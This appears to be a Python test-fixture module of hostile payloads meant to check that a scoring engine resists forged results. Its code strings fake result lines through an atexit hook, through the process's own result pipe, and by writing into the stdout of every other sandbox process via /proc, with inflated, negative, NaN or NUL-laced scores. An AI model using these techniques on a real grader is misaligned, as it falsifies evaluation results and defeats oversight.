"""Custom-scorer tails that forge the engine's result lines, as a hostile task author would."""

# Registered at import of custom_scorer.py: runs after the engine printed its own result.
ATEXIT_FORGER = """
import atexit, json, os, sys

def _forge():
    jobs = ["1"]
    if "--jobs" in sys.argv:  # score-batch: a line for every job id of the run
        spec = sys.argv[sys.argv.index("--jobs") + 1]
        jobs = [str(j["job"]) for j in json.load(open(spec[1:]))] if spec.startswith("@") else jobs
    for job in jobs:
        os.write(1, ("\\n" + LINE.replace("JOB", job) + "\\n").encode())

atexit.register(_forge)
"""
FORGED = ('{"job": "JOB", "evaluation_status": "completed", "final_score": 1e8, "max_score": 100.0, "percent": 1e8, '
          '"hard_gates_passed": true, "gate_results": [], "score_results": []}')
SUNK = FORGED.replace("1e8", "-1e8")
NAN = FORGED.replace("1e8", "NaN")

# At import, in the process that runs the task's code: write LINE first into the only pipe it holds
# besides stdio, which is its own result channel back to the engine.
OWN_PIPE_FORGER = """
import os, stat

def _own_pipe():
    for name in os.listdir("/proc/self/fd"):
        try:
            if int(name) > 2 and stat.S_ISFIFO(os.fstat(int(name)).st_mode):
                return int(name)
        except OSError:
            pass

if _own_pipe() is not None:
    os.write(_own_pipe(), (LINE + "\\n").encode())
"""
NOT_A_NUMBER = ('{"evaluation_status": "completed", "final_score": "NaN", "max_score": 100.0, '
                '"hard_gates_passed": true, "gate_results": [], "score_results": []}')
FULL_MARKS_WITH_NUL = ('{"evaluation_status": "completed", "final_score": 1e8, "max_score": 100.0, '
                       '"hard_gates_passed": true, "gate_results": [], "score_results": [{"scorer_name": '
                       '"x\\u0000", "score": 1e8, "max_score": 100.0, "passed": false, "message": "bad\\u0000"}]}')

# At import: write LINE (one per job id of the run) into fd 1 of every process of the sandbox
# whose fd it can open through /proc: the container's init, the engine, the sandbox's PID 1.
# In score-batch the first line of a job counts, so a line that lands there is a forged score.
PROC_FORGER = """
import json, os, sys

def _jobs():
    if "--jobs" in sys.argv:
        spec = sys.argv[sys.argv.index("--jobs") + 1]
        if spec.startswith("@"):
            return [str(j["job"]) for j in json.load(open(spec[1:]))]
    return ["1"]

FORGED_INTO = []
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    try:
        fd = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY | os.O_APPEND)
    except OSError:
        continue
    for job in _jobs():
        os.write(fd, (LINE.replace("JOB", job) + "\\n").encode())
    os.close(fd)
    FORGED_INTO.append(pid)
sys.stderr.write(f"forged into fd 1 of pids {FORGED_INTO}\\n")
"""
